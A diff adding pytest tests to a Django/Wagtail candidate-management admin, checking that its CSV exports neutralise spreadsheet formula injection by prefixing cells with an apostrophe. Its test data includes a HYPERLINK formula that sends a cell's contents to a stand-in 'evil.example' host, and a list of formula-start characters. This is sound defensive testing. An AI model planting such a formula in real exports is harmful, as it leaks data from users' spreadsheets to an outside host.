@@ -2,12 +2,20 @@
 injection in the CSV exports, crafted filter parameters, bulk deletion of answered phases, and what an
 Éditeur finds of the candidates' data (#15)."""
 
+import csv
 import importlib
+import io
 
 import pytest
 from django.apps import apps
 from django.contrib.auth.models import Group
+from django.utils import timezone
 from wagtail.models import GroupApprovalTask, Page, Task, Workflow, WorkflowPage
+
+from candidates import journal
+
+from .factories import CandidateFactory
+from .test_admin_academie import ATTESTATIONS, CANDIDATES, attest
 
 pytestmark = pytest.mark.django_db
 
@@ -43,3 +51,44 @@ def test_the_migration_removes_them_where_wagtail_created_them_and_is_safe_where
     LEFTOVERS.remove_leftovers(apps, None)  # already absent: nothing to do, no error
     assert_no_leftovers()
     assert Page.objects.filter(depth=1).exists()
+
+
+# Formula injection in the CSV exports ------------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', "+SUM(1,1)", "-2+3", "@SUM(1,1)"]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def formula_candidates(counsellor):
+    """Four candidates whose name (and username) is a spreadsheet formula, each with an attestation
+    and an entry of their own in the access journal."""
+    people = []
+    for number, formula in enumerate(FORMULAS, start=1):
+        person = CandidateFactory(first_name=formula, last_name="", username=formula, dossier__counsellor=counsellor)
+        attest(person.dossier, timezone.localdate(), 2, f"ATT-F{number}")
+        journal.record(person, journal.Action.ANSWERS_SAVED, candidate=person)
+        people.append(person)
+    return people
+
+
+def csv_cells(client, url) -> list[list[str]]:
+    response = client.get(url, {"export": "csv"})
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize(
+    "url, column",
+    [(CANDIDATES, "Candidat"), (ATTESTATIONS, "Candidat"), ("/admin/journal/", "Auteur (identifiant)")],
+)
+def test_no_cell_of_an_admin_export_is_read_as_a_formula(client, administrator, formula_candidates, url, column):
+    client.force_login(administrator)
+    heading, *rows = csv_cells(client, url)
+    assert rows
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(FORMULA_STARTS), (url, cell)
+    shown = {dict(zip(heading, row, strict=True))[column] for row in rows}
+    assert {f"'{formula}" for formula in FORMULAS} <= shown
